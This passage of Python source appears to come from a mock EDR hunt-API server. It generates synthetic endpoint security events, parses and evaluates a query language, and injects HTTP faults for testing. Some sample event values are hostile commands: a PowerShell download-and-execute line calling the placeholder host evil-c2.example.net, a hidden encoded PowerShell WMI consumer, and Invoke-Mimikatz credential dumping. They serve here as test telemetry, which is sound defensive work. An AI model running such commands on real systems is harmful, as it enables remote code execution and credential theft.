    return {'technique': tech, 'relevance': c.r.randrange(40, 100), 'tactics': list(tactics)}


def gen_wmi_filter(c):
    return {'operationType': 0, 'filterName': c.one(['SCM Event Log Filter', 'BVTFilter', 'AcmeStartup']),
            'eventNamespace': 'root\\cimv2',
            'query': c.one(["SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                            "'Win32_Service'", "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE "
                            "TargetInstance ISA 'Win32_LogonSession'"]),
            'queryLanguage': 'WQL'}


def gen_wmi_consumer(c):
    if c.r.random() < 0.5:
        ctype, name, cdata = 1, 'AcmeCmdConsumer', {
            'commandLineTemplateTokens': 'powershell.exe -nop -w hidden -enc SQBFAFgA',
            'executablePath': PROGRAMS['powershell.exe'][0], 'runInteractively': False,
            'showWindowCommand': 0, 'workingDirectory': 'c:\\windows\\system32'}
    else:
        ctype, name, cdata = 2, 'AcmeScriptConsumer', {
            'scriptingEngine': 'VBScript', 'scriptFileName': 'c:\\programdata\\acme\\beacon.vbs'}
    return {'operationType': 0, 'consumerType': ctype, 'consumerName': name, 'eventNamespace': 'root\\subscription',
            'machineName': c.ep[1], 'consumerData': cdata}


def gen_powershell(c):
    text = c.one(['Get-Process | Where-Object { $_.CPU -gt 100 }',
                  'IEX (New-Object Net.WebClient).DownloadString(\'http://evil-c2.example.net/a.ps1\')',
                  'Get-ChildItem -Path c:\\users -Recurse -Filter *.docm'])
    return {'scriptBlockText': text, 'scriptBlockSize': len(text),
            'scriptBlockId': '%08x-99fe-491b-b123-%012x' % (c.r.getrandbits(32), c.r.getrandbits(48)),
            'scriptBlockEntropy': round(3.5 + c.r.random() * 2, 6),
            'path': c.one(['c:\\users\\jdoe\\appdata\\local\\temp\\run.ps1', 'c:\\scripts\\inventory.ps1', ''])}


def gen_antimalware(c):
    ttype, tname = c.one(THREATS)
    path = c.one(FILES)[0]
    return {'avObjectStatus': c.one(['Detected', 'Quarantined', 'Removed']),
            'avScanReason': c.one(['OnAccess', 'OnDemand', 'Realtime']),
            'avThreatInfoArray': [tname], 'avThreatType': ttype, 'file': path}


def gen_task(c):
    engine = c.pick(['taskhostw.exe', 'svchost.exe'])
    action = c.one([PROGRAMS['updater.exe'][0], PROGRAMS['powershell.exe'][0],
                    'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe'])
    return {'taskName': c.one(['\\MicrosoftEdgeUpdateTaskMachineUA', '\\AcmeUpdater', '\\Microsoft\\Windows\\'
                               'Flighting\\OneSettings\\RefreshCache']),
            'etwActivityId': '{D0000000-0C5B-4DA9-B7B3-%012X}' % c.r.getrandbits(48), 'actionName': action,
            'engineProcess': engine.nested, 'enginePid': engine.pid, 'etwEventId': 106}


def gen_service(c):
    svc = c.pick(['svchost.exe', 'updater.exe'])
    name, disp = c.one([('ExampleSvc', 'Example Service'), ('AcmeUpd', 'Acme Updater Service'),
                        ('PSEXESVC', 'PSEXESVC')])
    return {'serviceName': name, 'displayName': disp, 'startType': c.one([2, 3, 4]),
            'serviceType': c.one([16, 32]), 'servicePid': svc.pid, 'serviceProcess': svc.nested,
            'path': PROGRAMS[svc.prog][0] + (' -k wsappx -p' if svc.prog == 'svchost.exe' else ''),
            'rootObject': '\\registry\\machine\\system\\controlset001\\services\\' + name}


def gen_amsi(c):
    content = c.one(['IEX (New-Object Net.WebClient).DownloadString(\'http://evil-c2.example.net/a.ps1\')',
                     'Write-Host "hello"', 'Invoke-Mimikatz -DumpCreds'])
    return {'scanResult': c.one([0, 1, 32768]),
            'appName': 'PowerShell_C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe_10.0.19041.1',
            'contentSize': len(content), 'originalSize': len(content),
            'contentName': c.one(['c:\\users\\jdoe\\appdata\\local\\temp\\run.ps1', 'c:\\scripts\\inventory.ps1']),
            'content': content}


ANY = None
SUSPICIOUS = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'mshta.exe', 'tryme.exe', 'payload.exe']
EVENT_TYPES = {   # eventType -> (weight, acting programs or ANY, generator)
    2: (9, list(CHILDREN), gen_process_created),
    3: (6, ANY, gen_process_terminated),
    4: (4, ['powershell.exe', 'rundll32.exe', 'tryme.exe', 'payload.exe', 'svchost.exe'], gen_cross_process),
    5: (5, ['explorer.exe', 'chrome.exe', 'winword.exe', 'powershell.exe', 'payload.exe', 'python.exe'], gen_file),
    7: (3, ['explorer.exe', 'cmd.exe', 'powershell.exe', 'updater.exe'], gen_file_deleted),
    8: (16, ['chrome.exe', 'svchost.exe', 'powershell.exe', 'putty.exe', 'python.exe', 'payload.exe',
             'updater.exe', 'lsass.exe'], gen_network),
    9: (2, ['powershell.exe', 'cmd.exe', 'payload.exe', 'updater.exe', 'tryme.exe'], gen_registry),
    10: (4, ['powershell.exe', 'explorer.exe', 'services.exe', 'updater.exe', 'svchost.exe'], gen_registry),
    12: (6, ['explorer.exe', 'chrome.exe', 'winword.exe', 'powershell.exe', 'svchost.exe', 'updater.exe'],
         gen_file),
    36: (2, ['wmiprvse.exe'], gen_wmi_activity),
    37: (5, ['chrome.exe', 'powershell.exe', 'updater.exe', 'payload.exe', 'winword.exe'], gen_wininet),
    38: (8, ['chrome.exe', 'svchost.exe', 'powershell.exe', 'payload.exe', 'putty.exe', 'python.exe'], gen_dns),
    39: (3, ['lsass.exe', 'winlogon.exe'], gen_logon),
    40: (2, ['lsass.exe', 'winlogon.exe'], gen_logon_failed),
    57: (6, ANY, gen_module),
    61: (1, ANY, gen_custom),           # "Custom Event No Process": no payload.process
    63: (1, ['rundll32.exe', 'powershell.exe', 'tryme.exe', 'mshta.exe', 'winword.exe'], gen_in_memory),
    65: (2, SUSPICIOUS, gen_mitre),
    66: (1, ['wmiprvse.exe', 'powershell.exe'], gen_wmi_filter),
    67: (1, ['wmiprvse.exe', 'powershell.exe'], gen_wmi_consumer),
    74: (3, ['powershell.exe'], gen_powershell),
    76: (1, ['svchost.exe'], gen_antimalware),
    81: (2, ['svchost.exe', 'taskhostw.exe'], gen_task),
    85: (2, ['services.exe'], gen_service),
    89: (2, ['powershell.exe', 'winword.exe', 'mshta.exe', 'python.exe'], gen_amsi),
}
TYPE_TABLE = [t for t, (w, _a, _g) in EVENT_TYPES.items() for _ in range(w)]


class DataSet:
    def __init__(self, n, seed):
        self.n = n
        self.seed = seed
        self.key = mix64((seed * 0x2545F4914F6CDD1D) & M64)
        self.tables = [_process_table(seed, e) for e in range(len(ENDPOINTS))]

    def hash(self, i):
        return mix64((self.key + i * GOLDEN) & M64)

    def happened_ms(self, i):
        """Strictly increasing in i: one event a second, plus 0-999 ms."""
        return BASE_MS + i * 1000 + self.hash(i) % 1000

    def first_at_or_after(self, ms):
        """Smallest i with happened_ms(i) >= ms (n if none)."""
        lo, hi = 0, self.n
        while lo < hi:
            mid = (lo + hi) // 2
            if self.happened_ms(mid) >= ms:
                hi = mid
            else:
                lo = mid + 1
        return lo

    def event(self, i):
        h = self.hash(i)
        r = random.Random(h)
        rnd = r.random
        ms = BASE_MS + i * 1000 + h % 1000
        et = TYPE_TABLE[int(rnd() * len(TYPE_TABLE))]
        _w, actors, gen = EVENT_TYPES[et]
        epi = int(rnd() * len(ENDPOINTS))
        c = Ctx()
        c.r, c.ms, c.ep = r, ms, ENDPOINTS[epi]
        c.slots, c.by_prog = self.tables[epi]
        if actors is None:
            c.proc = c.slots[int(rnd() * len(c.slots))]
        else:
            c.proc = c.pick(actors)
        incidents = [INCIDENTS[int(rnd() * len(INCIDENTS))]] if rnd() < 0.04 else []
        triggered = [INCIDENTS[int(rnd() * len(INCIDENTS))]] if rnd() < 0.015 else []
        relevance = int(rnd() * 100)
        data = gen(c)
        payload = {'localId': str(847101972854000000 + i * 1000 + (h >> 20) % 1000)}
        if et != 61:
            payload['process'] = c.proc.top
        payload['incidents'] = incidents
        payload['triggeredIncidents'] = triggered
        payload['data'] = data
        payload['eventType'] = et
        payload['relevance'] = relevance
        return {'eventId': str(847102109500000000 + i * 1000 + (h >> 40) % 1000), 'endpointId': c.ep[0],
                'payload': payload, 'happenedAt': iso_ms(ms),
                'receivedAt': iso_ms(ms + 150 + (h >> 12) % 2350)}


# ===========================================================================
# HunQ: field table, parser, evaluator, match cache
# ===========================================================================

class HunqError(Exception):
    """A query the Hunt API answers with 422; str() is the message."""


TERM, PREFIX, EXISTS, GTE, LTE, GUI, AFTER, BEFORE, IPSRC, IPDST = (
    'TERM', 'PREFIX', 'EXISTS', 'RANGE_GTE', 'RANGE_LTE', 'TERM(!noGui)', 'AFTER', 'BEFORE', 'IP_SRC', 'IP_DST')

FIELDS = {}     # name -> (match type, (path, ...)); a path is a tuple of keys from the event's top


def _field(name, mtype, *paths):
    FIELDS[name] = (mtype, tuple(tuple(p.split('.')) for p in paths))


# the 20 sub-fields of a process object (payload.process, or the accessor., allocator., engine., service.,
# target. processes inside payload.data)
PROCESS_SUBFIELDS = [
    ('arch', TERM, 'program.arch'), ('expired', TERM, 'program.certInfo.expired'),
    ('fsname', TERM, 'program.fsName'), ('hasGui', GUI, 'noGui'), ('isSigned', EXISTS, 'program.certInfo'),
    ('issuer', PREFIX, 'program.certInfo.issuer'), ('login.id', TERM, 'logonId'), ('md5', TERM, 'program.md5'),
    ('originalFilename', TERM, 'program.filename'), ('path', PREFIX, 'program.path'), ('pid', TERM, 'pid'),
    ('ppid', TERM, 'ppid'), ('privilege', TERM, 'privilegeLevel'), ('sha1', TERM, 'program.sha1'),
    ('sha256', TERM, 'program.sha256'), ('signer', PREFIX, 'program.certInfo.signer'),
    ('trusted', TERM, 'program.certInfo.trusted'), ('user', TERM, 'user'), ('user.sid', TERM, 'userSID'),
    ('user.startsWith', PREFIX, 'user'),
]
PROCESS_FAMILIES = {'': ['payload.process'], 'accessor.': ['payload.data.accessorProcess'],
                    'allocator.': ['payload.data.allocatorProc'], 'engine.': ['payload.data.engineProcess'],
                    'service.': ['payload.data.serviceProcess'],
                    'target.': ['payload.data.childProcess', 'payload.data.targetProcess']}
for _prefix, _bases in PROCESS_FAMILIES.items():
    for _sub, _mtype, _rel in PROCESS_SUBFIELDS:
        _field(_prefix + _sub, _mtype, *[b + '.' + _rel for b in _bases])
_field('fsName', TERM, 'payload.process.program.fsName')      # stix-shifter's spelling of fsname
_field('engine.exists', EXISTS, 'payload.data.engineProcess')
_field('service.exists', EXISTS, 'payload.data.serviceProcess')
_field('service.displayName', TERM, 'payload.data.displayName')
_field('service.name', TERM, 'payload.data.serviceName')
_field('service.startType', TERM, 'payload.data.startType')
_field('service.type', TERM, 'payload.data.serviceType')

_OBJS = ['process', 'data', 'data.targetProcess', 'data.childProcess', 'data.allocatorProc',
         'data.accessorProcess', 'data.engineProcess', 'data.serviceProcess']
_field('$filename', TERM, *['payload.%s%s.%s' % (o, '' if o == 'data' else '.program', k)
                            for o in _OBJS for k in ('filename', 'fsName')])
for _h in ('md5', 'sha1', 'sha256'):
    _field('$' + _h, TERM, *['payload.%s%s.%s' % (o, '' if o == 'data' else '.program', _h)
                             for o in _OBJS if o != 'data.accessorProcess'])
_field('$path', PREFIX, 'payload.process.program.path', 'payload.data.childProcess.program.path',
       'payload.data.targetProcess.program.path', 'payload.data.allocatorProc.program.path', 'payload.data.file',
       'payload.data.path', 'payload.data.rootObject', 'payload.data.engineProcess.program.path',
       'payload.data.serviceProcess.program.path')
_field('$ip', TERM, 'payload.data.remoteAddr', 'payload.data.localAddr')
_field('ip.src', IPSRC, 'payload.data')
_field('ip.dst', IPDST, 'payload.data')

for _name, _mtype, _path in [
        ('endpointId', TERM, 'endpointId'), ('eventId', TERM, 'eventId'), ('eventType', TERM, 'payload.eventType'),
        ('happenedAfter', AFTER, 'happenedAt'), ('happenedBefore', BEFORE, 'happenedAt'),
        ('customName', TERM, 'payload.data.customName'), ('customType', TERM, 'payload.data.customType'),
        ('isOutbound', TERM, 'payload.data.outbound'), ('host.pid', TERM, 'payload.data.hostPid'),
        ('wmiHost.pid', TERM, 'payload.data.wmiHostPid'),
        ('mitre.tactic', TERM, 'payload.data.tactics'), ('mitre.technique', TERM, 'payload.data.technique'),
        ('reg.data', PREFIX, 'payload.data.data'), ('reg.name', TERM, 'payload.data.name'),
        ('reg.path', PREFIX, 'payload.data.rootObject'),
        ('task.actionName', TERM, 'payload.data.actionName'), ('task.name', TERM, 'payload.data.taskName'),
        # eventdata.*
        ('eventdata.arch', TERM, 'payload.data.arch'),
        ('eventdata.cert.expired', TERM, 'payload.data.certInfo.expired'),
        ('eventdata.cert.isSigned', EXISTS, 'payload.data.certInfo'),
        ('eventdata.cert.issuer', PREFIX, 'payload.data.certInfo.issuer'),
        ('eventdata.cert.signer', PREFIX, 'payload.data.certInfo.signer'),
        ('eventdata.cert.trusted', TERM, 'payload.data.certInfo.trusted'),
        ('eventdata.dns', PREFIX, 'payload.data.queryName'),
        ('eventdata.etwEventId', TERM, 'payload.data.etwEventId'),
        ('eventdata.etwEventVersion', TERM, 'payload.data.etwEventVersion'),
        ('eventdata.etwTask', TERM, 'payload.data.etwTask'),
        ('eventdata.filename', TERM, 'payload.data.filename'), ('eventdata.filetype', TERM, 'payload.data.fileType'),
        ('eventdata.fsname', TERM, 'payload.data.fsName'), ('eventdata.localIp', TERM, 'payload.data.localAddr'),
        ('eventdata.localPort', TERM, 'payload.data.localPort'), ('eventdata.md5', TERM, 'payload.data.md5'),
        ('eventdata.peType', TERM, 'payload.data.peType'),
        ('eventdata.regionSize.gte', GTE, 'payload.data.regionSize'),
        ('eventdata.regionSize.lte', LTE, 'payload.data.regionSize'),
        ('eventdata.relevance', TERM, 'payload.data.relevance'),
        ('eventdata.relevance.gte', GTE, 'payload.data.relevance'),
        ('eventdata.relevance.lte', LTE, 'payload.data.relevance'),
        ('eventdata.remoteIp', TERM, 'payload.data.remoteAddr'),
        ('eventdata.remotePort', TERM, 'payload.data.remotePort'),
        ('eventdata.returnCode', TERM, 'payload.data.returnCode'), ('eventdata.sha1', TERM, 'payload.data.sha1'),
        ('eventdata.sha256', TERM, 'payload.data.sha256'), ('eventdata.size.gte', GTE, 'payload.data.size'),
        ('eventdata.size.lte', LTE, 'payload.data.size'), ('eventdata.tag', PREFIX, 'payload.data.tags'),
        ('eventdata.targetProcessId', TERM, 'payload.data.targetProcessId'),
        ('eventdata.url', PREFIX, 'payload.data.url'), ('eventdata.version', TERM, 'payload.data.version'),
        # antimalware.*
        ('antimalware.appName', TERM, 'payload.data.appName'),
        ('antimalware.contentName', PREFIX, 'payload.data.contentName'),
        ('antimalware.objectStatus', TERM, 'payload.data.avObjectStatus'),
        ('antimalware.scanReason', TERM, 'payload.data.avScanReason'),
        ('antimalware.scanResult', TERM, 'payload.data.scanResult'),
        ('antimalware.threatInfo', PREFIX, 'payload.data.avThreatInfoArray'),
        ('antimalware.threatType', TERM, 'payload.data.avThreatType'),
        # consumer.* (WMI event consumers)
        ('consumer.cmdline', PREFIX, 'payload.data.consumerData.commandLineTemplateTokens'),
        ('consumer.execPath', PREFIX, 'payload.data.consumerData.executablePath'),
        ('consumer.runInteractively', TERM, 'payload.data.consumerData.runInteractively'),
        ('consumer.script.engine', PREFIX, 'payload.data.consumerData.scriptingEngine'),
        ('consumer.script.filename', PREFIX, 'payload.data.consumerData.scriptFileName'),
        ('consumer.showWindowCmd', TERM, 'payload.data.consumerData.showWindowCommand'),
        ('consumer.workingDirectory', PREFIX, 'payload.data.consumerData.workingDirectory'),
        # login.*
        ('login.authenticationPackage', TERM, 'payload.data.etwAuthenticationPackageName'),
        ('login.dst.domain', TERM, 'payload.data.etwTargetDomainName'),
        ('login.dst.sid', TERM, 'payload.data.etwTargetUserSid'),
        ('login.dst.username', TERM, 'payload.data.etwTargetUserName'),
        ('login.ip', TERM, 'payload.data.etwIpAddress'), ('login.packageName', TERM, 'payload.data.etwLmPackageName'),
        ('login.port', TERM, 'payload.data.etwIpPort'),
        ('login.processName', PREFIX, 'payload.data.etwLogonProcessName'),
        ('login.src.domain', TERM, 'payload.data.etwSubjectDomainName'),
        ('login.src.sid', TERM, 'payload.data.etwSubjectUserSid'),
        ('login.src.username', TERM, 'payload.data.etwSubjectUserName'),
        ('login.subjectLogonId', TERM, 'payload.data.etwSubjectLogonId'),
        ('login.targetLogonId', TERM, 'payload.data.etwTargetLogonId'),
        ('login.type', TERM, 'payload.data.etwLogonType'),
        # wmi.*
        ('wmi.clientMachine', TERM, 'payload.data.clientMachine'),
        ('wmi.clientMachineFqn', TERM, 'payload.data.clientMachineFqn'),
        ('wmi.clientPid', TERM, 'payload.data.clientPid'), ('wmi.consumerName', PREFIX, 'payload.data.consumerName'),
        ('wmi.consumerType', TERM, 'payload.data.consumerType'),
        ('wmi.eventNamespace', PREFIX, 'payload.data.eventNamespace'),
        ('wmi.filterName', PREFIX, 'payload.data.filterName'), ('wmi.isLocal', TERM, 'payload.data.isLocal'),
        ('wmi.machineName', PREFIX, 'payload.data.machineName'),
        ('wmi.namespaceName', PREFIX, 'payload.data.namespaceName'),
        ('wmi.operation', PREFIX, 'payload.data.operation'), ('wmi.operationType', TERM, 'payload.data.operationType'),
        ('wmi.query', PREFIX, 'payload.data.query'), ('wmi.queryLanguage', TERM, 'payload.data.queryLanguage'),
        ('wmi.user', TERM, 'payload.data.user')]:
    _field(_name, _mtype, _path)
_field('hasAlert', EXISTS, 'payload.incidents', 'payload.triggeredIncidents')
_field('cmdline', PREFIX, 'payload.data.cmdLine', 'payload.data.cmdLineArgs')

ETW_NAMES = ('AllowedToDelegateTo CallerProcessId CallerProcessName CertIssuerName CertSerialNumber CertThumbprint '
             'DisplayName Dummy ElevatedToken EventRecordId FailureReason HomeDirectory HomePath ImpersonationLevel '
             'KeyLength LogonGuid LogonHours LogonProcessName MemberName MemberSid NewTargetUserName NewUacValue '
             'OldTargetUserName OldUacValue PackageName PasswordLastSet PreAuthType PrimaryGroupId PrivilegeList '
             'ProcessId ProcessName ProfilePath RestrictedAdminMode SamAccountName ScriptPath ServiceName ServiceSid '
             'SidHistory SidList Status SubStatus TargetInfo TargetLinkedLogonId TargetLogonGuid '
             'TargetOutboundDomainName TargetOutboundUserName TargetServerName TargetSid TicketEncryptionType '
             'TicketOptions TransmittedServices UserAccountControl UserParameters UserPrincipalName UserWorkstations '
             'VirtualAccount Workstation WorkstationName').split()
for _n in ETW_NAMES:
    _field('__etw' + _n, PREFIX if _n in ('HomeDirectory', 'ProfilePath', 'ScriptPath') else TERM,
           'payload.data.etw' + _n)

# --- lexer ---

_TOKEN_RE = re.compile(r'''
    (?P<ws>\s+)
  | (?P<lp>\() | (?P<rp>\)) | (?P<ne>!=) | (?P<eq>=)
  | (?P<str>"[^"]*")
  | (?P<num>-?[0-9][0-9A-Za-z_.:/-]*)
  | (?P<word>\$?[A-Za-z_][A-Za-z0-9_.]*|\$[A-Za-z0-9_.]*)
''', re.X)
_NUMBER_RE = re.compile(r'-?[0-9]+(\.[0-9]+)?\Z')
_KEYWORDS = {'and': 'AND', 'or': 'OR', 'not': 'NOT'}


def tokenize(q):
    """-> list of (kind, text, column); kinds: ( ) = != STR NUM FIELD AND OR NOT EOF."""
    toks = []
    pos = 0
    while pos < len(q):
        m = _TOKEN_RE.match(q, pos)
        col = pos + 1
        if m is None:
            if q[pos] == '"':
                raise HunqError('unterminated string starting at column %d' % col)
            raise HunqError('unexpected character %r at column %d' % (q[pos], col))
        kind, text = m.lastgroup, m.group()
        pos = m.end()
        if kind == 'ws':
            continue
        if kind == 'num':
            if not _NUMBER_RE.match(text):
                raise HunqError('invalid bare value %r at column %d (strings must be double-quoted)' % (text, col))
            toks.append(('NUM', text, col))
        elif kind == 'word':
            kw = _KEYWORDS.get(text.lower())
            toks.append((kw, text, col) if kw else ('WORD', text, col))
        elif kind == 'str':
            toks.append(('STR', text[1:-1], col))
        else:
            toks.append(({'lp': '(', 'rp': ')', 'ne': '!=', 'eq': '='}[kind], text, col))
    toks.append(('EOF', '', len(q) + 1))
    return toks


# --- parser: the AST is ('or', [..]) | ('and', [..]) | ('not', node) | ('cmp', field, op, kind, text, col) ---

class Parser:
    def __init__(self, q):
        self.toks = tokenize(q)
        self.pos = 0

    def peek(self):
        return self.toks[self.pos]

    def take(self):
        t = self.toks[self.pos]
        self.pos += 1
        return t

    def unexpected(self, t, wanted):
        if t[0] == 'EOF':
            raise HunqError('unexpected end of query at column %d, expected %s' % (t[2], wanted))
        raise HunqError('unexpected token %r at column %d, expected %s' % (t[1], t[2], wanted))

    def parse(self):
        node = self.expr()
        if self.peek()[0] != 'EOF':
            self.unexpected(self.peek(), 'AND, OR or the end of the query')
        return node

    def expr(self):
        items = [self.conj()]
        while self.peek()[0] == 'OR':
            self.take()
            items.append(self.conj())
        return items[0] if len(items) == 1 else ('or', items)

    def conj(self):
        items = [self.unary()]
        while self.peek()[0] == 'AND':
            self.take()
            items.append(self.unary())
        return items[0] if len(items) == 1 else ('and', items)

    def unary(self):
        t = self.peek()
        if t[0] == 'NOT':
            self.take()
            return ('not', self.unary())
        if t[0] == '(':
            self.take()
            node = self.expr()
            if self.peek()[0] != ')':
                self.unexpected(self.peek(), "')'")
            self.take()
            return node
        if t[0] == 'WORD':
            return self.comparison()
        self.unexpected(t, 'a field name, NOT or (')

    def comparison(self):
        field = self.take()
        if field[1] not in FIELDS:
            raise HunqError('%s is not a valid field.' % field[1])
        op = self.take()
        if op[0] not in ('=', '!='):
            self.unexpected(op, "'=' or '!=' after %s" % field[1])
        v = self.take()
        if v[0] in ('STR', 'NUM'):
            kind, text = v[0], v[1]
        elif v[0] == 'WORD' and v[1].lower() in ('true', 'false'):
            kind, text = 'BOOL', v[1].lower()
        else:
            self.unexpected(v, 'a value (a double-quoted string, a number, true or false)')
        node = ('cmp', field[1], '=', kind, text, v[2])
        return ('not', node) if op[0] == '!=' else node


# --- evaluator ---

_TIME_RE = re.compile(r'(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})\.(\d{3})Z\Z')
_INT_RE = re.compile(r'-?[0-9]+\Z')
_MISSING = object()


def collect(obj, path):
    """The values at a dotted path; a list on the way (or at the end) stands for each of its elements."""
    cur = [obj]
    for key in path:
        nxt = []
        for o in cur:
            if type(o) is dict:
                v = o.get(key, _MISSING)
                if v is _MISSING or v is None:
                    continue
                if type(v) is list:
                    nxt.extend(v)
                else:
                    nxt.append(v)
        if not nxt:
            return nxt
        cur = nxt
    return cur


def as_text(v):
    if v is True:
        return 'true'
    if v is False:
        return 'false'
    if type(v) is str:
        return v
    if type(v) in (int, float):
        return _encode(v)
    return None


def _number(v):
    return v if type(v) in (int, float) else None


def parse_time(text, field, col):
    m = _TIME_RE.match(text)
    try:
        if m is None:
            raise ValueError
        y, mo, d, hh, mi, ss, ms = map(int, m.groups())
        time.strptime(text[:19], '%Y-%m-%dT%H:%M:%S')       # a real date
    except ValueError:
        raise HunqError('%s needs a timestamp "YYYY-MM-DDTHH:MM:SS.mmmZ" (UTC), got %r at column %d'
                        % (field, text, col)) from None
    return calendar.timegm((y, mo, d, hh, mi, ss)) * 1000 + ms


class Compiled:
    """A compiled query: pred(i, box) -> bool, with box a one-element list that
    caches the generated event; (lo, hi) bounds the indexes that can match."""

    def __init__(self, ds, ast):
        self.ds = ds
        self.pred, self.lo, self.hi, _cost = self.compile(ast)

    def compile(self, node):
        ds, n = self.ds, self.ds.n
        kind = node[0]
        if kind == 'not':
            f, _lo, _hi, cost = self.compile(node[1])
            return (lambda i, box: not f(i, box)), 0, n, cost
        if kind in ('and', 'or'):
            parts = sorted((self.compile(c) for c in node[1]), key=lambda p: p[3])   # cheap tests first
            fs = [p[0] for p in parts]
            if kind == 'and':
                lo, hi = max(p[1] for p in parts), min(p[2] for p in parts)

                def f(i, box):
                    for g in fs:
                        if not g(i, box):
                            return False
                    return True
            else:
                lo, hi = min(p[1] for p in parts), max(p[2] for p in parts)

                def f(i, box):
                    for g in fs:
                        if g(i, box):
                            return True
                    return False
            return f, lo, hi, max(p[3] for p in parts)
        _cmp, field, _op, vkind, text, col = node
        mtype, paths = FIELDS[field]
        if mtype in (AFTER, BEFORE):
            if vkind != 'STR':
                raise HunqError('%s needs a quoted timestamp "YYYY-MM-DDTHH:MM:SS.mmmZ", got %s at column %d'
                                % (field, text, col))
            t = parse_time(text, field, col)
            if mtype == AFTER:
                return (lambda i, box: ds.happened_ms(i) >= t), ds.first_at_or_after(t), n, 0
            return (lambda i, box: ds.happened_ms(i) <= t), 0, ds.first_at_or_after(t + 1), 0
        if mtype in (GTE, LTE):
            if vkind not in ('NUM', 'STR') or not _INT_RE.match(text):
                raise HunqError('%s needs an integer value, got %s at column %d'
                                % (field, '"%s"' % text if vkind == 'STR' else text, col))
            bound = int(text)
            if mtype == GTE:
                def test(v):
                    x = _number(v)
                    return x is not None and x >= bound
            else:
                def test(v):
                    x = _number(v)
                    return x is not None and x <= bound
        elif mtype == EXISTS:
            if text.lower() not in ('true', 'false'):
                raise HunqError('%s takes true or false, got %s at column %d' % (field, text, col))
            want = text.lower() == 'true'

            def f(i, box):
                ev = box[0]
                if ev is None:
                    ev = box[0] = ds.event(i)
                found = False
                for p in paths:
                    if collect(ev, p):
                        found = True
                        break
                return found == want
            return f, 0, n, 1
        elif mtype in (IPSRC, IPDST):
            src = mtype == IPSRC

            def f(i, box):
                ev = box[0]
                if ev is None:
                    ev = box[0] = ds.event(i)
                data = ev['payload'].get('data') or {}
                out = data.get('outbound')
                if type(out) is not bool:
                    return False
                return data.get('localAddr' if out == src else 'remoteAddr') == text
            return f, 0, n, 1
        else:
            if vkind == 'NUM' and _INT_RE.match(text):
                text = str(int(text))
            if mtype == TERM:
                def test(v):
                    return as_text(v) == text
            elif mtype == GUI:
                def test(v):
                    return type(v) is bool and ('false' if v else 'true') == text
            else:    # PREFIX: case-insensitive
                low = text.lower()

                def test(v):
                    s = as_text(v)
                    return s is not None and s.lower().startswith(low)

        def f(i, box):
            ev = box[0]
            if ev is None:
                ev = box[0] = ds.event(i)
            for p in paths:
                for v in collect(ev, p):
                    if test(v):
                        return True
            return False
        return f, 0, n, 1

    def matches(self):
        pred = self.pred
        out = array('I')
        for i in range(self.lo, self.hi):
            if pred(i, [None]):
                out.append(i)
        return out


def compile_query(ds, q):
    return Compiled(ds, Parser(q).parse())


class MatchCache:
    """Query text -> (digest, array of matching indexes), LRU, computed once per query."""

    def __init__(self, ds, size=16):
        self.ds = ds
        self.size = size
        self.lock = threading.Lock()
        self.entries = collections.OrderedDict()   # text -> [digest, matches or None, Lock]

    def get(self, q):
        """-> (digest, matches); raises HunqError."""
        with self.lock:
            e = self.entries.get(q)
            if e is None:
                e = self.entries[q] = [hashlib.sha256(q.encode()).hexdigest()[:24], None, threading.Lock()]
                while len(self.entries) > self.size:
                    self.entries.popitem(last=False)
            else:
                self.entries.move_to_end(q)
        with e[2]:
            if e[1] is None:
                try:
                    e[1] = compile_query(self.ds, q).matches()
                except HunqError:
                    with self.lock:
                        self.entries.pop(q, None)
                    raise
        return e[0], e[1]


def make_cursor(digest, offset):
    raw = _encode({'q': digest, 'o': offset}).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip('=')


def read_cursor(cursor):
    try:
        raw = base64.urlsafe_b64decode(cursor + '=' * (-len(cursor) % 4))
        obj = json.loads(raw)
        if type(obj) is dict and type(obj.get('q')) is str and type(obj.get('o')) is int and obj['o'] >= 0:
            return obj['q'], obj['o']
    except ValueError:
        pass
    return None


# ===========================================================================
# Faults (--fault KIND@N[,M...])
# ===========================================================================

PRE_FAULTS = {'429', '429date', '500', '503', '504', '502html', 'reset', 'garbage'}   # replace the answer
PAGE_FAULTS = {'drop', 'truncate', 'hugeevent', 'repeatcursor', 'offhost'}             # alter a 200 page
FAULT_KINDS = PRE_FAULTS | PAGE_FAULTS | {'slow', 'expire'}
HUGE_FIELD_BYTES = 2 * 1024 * 1024

HTML_502 = ('<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1>'
            '</center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n')
HTML_GARBAGE = ('<!DOCTYPE html>\n<html><head><title>Maintenance</title></head>\n<body><h1>Scheduled '
                'maintenance</h1><p>The Hive server is being upgraded. Please try again later.</p></body></html>\n')
ERROR_MESSAGES = {500: 'Internal server error', 503: 'Service unavailable', 504: 'Gateway timeout'}


def fault_spec(s):
    kind, sep, nums = s.partition('@')
    if not sep or kind not in FAULT_KINDS:
        raise argparse.ArgumentTypeError('%r: expected KIND@N[,M...] with KIND one of %s'
                                         % (s, ', '.join(sorted(FAULT_KINDS))))
    try:
        ns = [int(x) for x in nums.split(',')]
    except ValueError:
        ns = []
    if not ns or min(ns) < 1:
        raise argparse.ArgumentTypeError('%r: N must be a hunt request number, 1 or more' % s)
    return [(n, kind) for n in ns]


# ===========================================================================
# HTTP
# ===========================================================================

class Stats:
    KEYS = ('connections', 'authentications', 'requests', 'hunts', 'faults')

    def __init__(self, path):
        self.path = path
        self.lock = threading.Lock()
        self.c = dict.fromkeys(self.KEYS, 0)

    def add(self, **kw):
        with self.lock:
            for k, v in kw.items():
                self.c[k] += v
            if self.path:
                write_atomic(self.path, _encode(self.c) + '\n')


class Resp:
    """An answer: status, body, content type, extra headers; action 'send', 'drop' or 'reset'."""
    __slots__ = ('status', 'body', 'ctype', 'headers', 'action', 'delay', 'auth', 'hunt', 'faults')

    def __init__(self, status, body, ctype='application/json', headers=()):
        self.status, self.ctype, self.headers = status, ctype, list(headers)
        self.body = body.encode() if isinstance(body, str) else body
        self.action, self.delay, self.auth, self.hunt, self.faults = 'send', 0.0, 0, 0, 0


def json_resp(status, obj, headers=()):
